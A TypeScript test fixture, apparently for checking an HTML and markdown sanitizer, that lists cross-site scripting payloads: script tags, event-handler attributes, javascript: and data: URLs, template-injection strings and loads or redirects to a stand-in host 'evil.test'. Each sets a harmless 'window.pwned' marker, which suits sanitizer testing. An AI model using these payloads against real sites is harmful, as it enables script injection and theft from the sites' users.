/** Texts that run a script, load something or move the page, where a page treats them as markup. Each sets `window.pwned` if it runs. */

const RUN = 'window.pwned=1'
const AWAY = 'http://evil.test/'

/** Elements with a handler or a script. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}a.js"></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${AWAY}pixel.gif">`,
  `"><img src=x onerror=${RUN}>`,
  `<img src=x onerror=&#119;indow.pwned=1>`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe onload="${RUN}"></iframe></foreignObject></svg>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `<body onload="${RUN}">`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${AWAY}x.swf">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<form action="${AWAY}"><button>send</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<base href="${AWAY}">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<link rel="stylesheet" href="${AWAY}a.css">`,
  `<link rel="prefetch" href="${AWAY}">`,
  `<style>@import "${AWAY}a.css";</style>`,
  `<div style="background:url(${AWAY}bg.png)">x</div>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<custom-element onpointerenter="${RUN}" autofocus tabindex=0>x</custom-element>`,
]

/** Addresses that are code, and markdown that makes links and pictures. */
const LINKS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `javascript://%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
  `//evil.test/`,
  `https://accounts.example@evil.test/`,
  `[click](javascript:${RUN})`,
  `[click](<javascript:${RUN}>)`,
  `![picture](${AWAY}pixel.gif)`,
  `![picture](x" onerror="${RUN})`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
]

/** Text that frameworks or JSON in a page could run. */
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}}`,
  `\u2028${RUN}\u2029`,
  `\u202e<script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
]

export const PAYLOADS: readonly string[] = [...ELEMENTS, ...LINKS, ...TEMPLATES]
